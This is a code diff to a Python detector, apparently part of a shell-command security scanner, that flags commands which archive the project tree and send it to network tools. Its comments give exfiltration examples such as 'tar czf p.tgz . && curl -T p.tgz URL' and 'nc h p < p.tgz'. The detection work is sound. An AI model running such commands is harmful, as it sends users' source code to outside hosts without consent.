@@ -10,9 +10,10 @@ blocks already (``_secrets.bulk_secret_source``: ``shell.exfiltration``).
   source: ``tar``/``gtar``/``bsdtar`` creating (``c``, ``-c``, ``--create``) from ``.``,
   ``./``, ``..`` or ``*`` (read from the working directory: ``-C DIR`` elsewhere, or a ``cd``
   away from it, names another folder); ``zip ARCHIVE .`` / ``7z a ARCHIVE .``; ``git
-  archive TREE-ISH`` (all of it, or pathspec ``.``/``:/``) and ``git bundle create``. The
-  archive file it writes (``-f``, ``-o``, the zip name) carries the source, so ``tar czf
-  p.tgz . && curl -T p.tgz URL`` is followed too.
+  archive TREE-ISH`` (all of it, or pathspec ``.``/``:/``) and ``git bundle create``. An
+  archive file it writes (``-f``, ``-o``, the zip name) is kept in ``run.trees``, so ``tar
+  czf p.tgz . && curl -T p.tgz URL`` and ``nc h p < p.tgz`` are followed too (copies of the
+  file are not).
 * :func:`tree_sent` warns when such a source reaches a network tool's stdin, a file it
   reads or an argument it sends. Copy tools with a destination (``scp``, ``rsync``,
   ``rclone``, ``aws s3``...) pass, as ``rsync -a . host:/srv`` does: a named deploy target.
@@ -28,7 +29,7 @@ from typing import TYPE_CHECKING
 
 from ._archives import tar_spec
 from ._embedded import git_sub_index
-from ._paths import norm_path
+from ._paths import candidate_paths, norm_path
 from ._secrets import sent_args
 from ._values import NO_TAINT, Field, Source, Taint, source_order
 
@@ -36,7 +37,7 @@ if TYPE_CHECKING:
     from ._resolve import Invocation
     from ._walk import Run
 
-__all__ = ["TREE_ARCHIVERS", "TREE_KIND", "tree_sent", "tree_source"]
+__all__ = ["TREE_ARCHIVERS", "TREE_KIND", "tree_file", "tree_sent", "tree_source"]
 
 TREE_KIND = "tree"
 _TARS = frozenset({"tar", "gtar", "bsdtar"})
@@ -62,6 +63,11 @@ _MAX_FILES = 256  # as _files
 
 def _is_tree(text: str, cwd: str | None) -> bool:
     return norm_path(text.rstrip("/") or "/", cwd) in _TREE_PATHS
+
+
+# Words that may name the working tree (``$PWD``, ``$(pwd)`` and ``~+`` expand to ``.``):
+# an archiver naming none of them costs one scan of its words.
+_TREE_WORDS = frozenset({".", "./", "..", "../", "*", "./*", "../..", "../../"})
 
 
 def _tar_tree(args: list[Field], cwd: str | None) -> tuple[bool, str | None]:
@@ -92,7 +98,8 @@ def _zip_tree(name: str, args: list[Field], cwd: str | None) -> tuple[bool, str 
         operands = operands[1:]
     if not operands:
         return False, None
-    return any(_is_tree(t, cwd) for t in operands[1:]), operands[0]
+    out = "-" if name != "zip" and any(f.text == "-so" for f in args) else operands[0]
+    return any(_is_tree(t, cwd) for t in operands[1:]), out  # 7z a -so x.7z .: stdout
 
 
 def _git_tree(args: list[Field]) -> tuple[bool, str | None]:
@@ -128,13 +135,18 @@ def _git_tree(args: list[Field]) -> tuple[bool, str | None]:
 
 
 def tree_source(run: Run, inv: Invocation) -> Taint:
-    """The ``"tree"`` taint of an archiver packing the working tree (see the module doc);
-    the archive file it writes is recorded with it in ``run.files``."""
+    """The ``"tree"`` taint of an archiver streaming the working tree to its output (see
+    the module doc); an archive file it writes is recorded in ``run.trees`` instead (kept
+    out of ``run.files``, whose every entry the checks of written files look at)."""
     name = inv.name
     args = inv.args
     if name in _TARS:
+        if not any(f.text in _TREE_WORDS for f in args):
+            return NO_TAINT
         tree, out = _tar_tree(args, run.cwd)
     elif name in _ZIPS:
+        if not any(f.text in _TREE_WORDS for f in args):
+            return NO_TAINT
         tree, out = _zip_tree(name, args, run.cwd)
     elif any(f.text in ("archive", "bundle") for f in args):
         tree, out = _git_tree(args)
@@ -142,20 +154,43 @@ def tree_source(run: Run, inv: Invocation) -> Taint:
         return NO_TAINT
     if not tree:
         return NO_TAINT
-    taint = frozenset({Source(TREE_KIND, name, run.map_span(inv.word.span))})
-    path = norm_path(out, run.cwd) if out and out != "-" else None
-    if path is not None and (path in run.files or len(run.files) < _MAX_FILES):
-        run.files[path] = run.files.get(path, NO_TAINT) | taint
-    return taint
+    src = Source(TREE_KIND, name, run.map_span(inv.word.span))
+    if not out or out == "-":
+        return frozenset({src})
+    path = norm_path(out, run.cwd)
+    if path is not None and (path in run.trees or len(run.trees) < _MAX_FILES):
+        run.trees[path] = src
+    return NO_TAINT
+
+
+def tree_file(run: Run, path: str | None) -> Taint:
+    """The ``"tree"`` taint of a file read (``nc h p < p.tgz``): an archive of the tree."""
+    src = run.trees.get(path) if path is not None else None
+    return frozenset({src}) if src is not None else NO_TAINT
+
+
+def _named_files(text: str, cwd: str | None) -> list[str]:
+    """Paths an argument names, plain names included (``-T p.tgz``, ``f=@p.zip``)."""
+    out = candidate_paths(text, cwd)
+    for piece in (text, text.partition("=")[2], text.partition("@")[2]):
+        if piece and piece[0] != "-" and "/" not in piece:
+            path = norm_path(piece, cwd)
+            if path is not None:
+                out.append(path)
+    return out
 
 
 def tree_sent(run: Run, inv: Invocation, taint: set[Source] | Taint) -> None:
     """Warn (``shell.repo-export``) when the project's tree reaches network tool ``inv``
-    through ``taint`` (its stdin and the files it reads) or the arguments it sends."""
+    through ``taint`` (its stdin), an archive file it reads or an argument it sends."""
     if inv.name in _COPIERS:
         return
     trees = [s for s in taint if s.kind == TREE_KIND]
-    trees += [s for f in sent_args(inv.args) for s in f.taint if s.kind == TREE_KIND]
+    if not trees and run.trees:  # curl -T p.tgz, curl -F f=@p.zip, --data-binary @p.tgz
+        trees = [run.trees[p] for f in inv.args for p in _named_files(f.text, run.cwd)
+                 if p in run.trees]
+    if not trees and any(s.kind == TREE_KIND for f in inv.args for s in f.taint):
+        trees = [s for f in sent_args(inv.args) for s in f.taint if s.kind == TREE_KIND]
     if not trees:
         return
     src = min(trees, key=source_order)
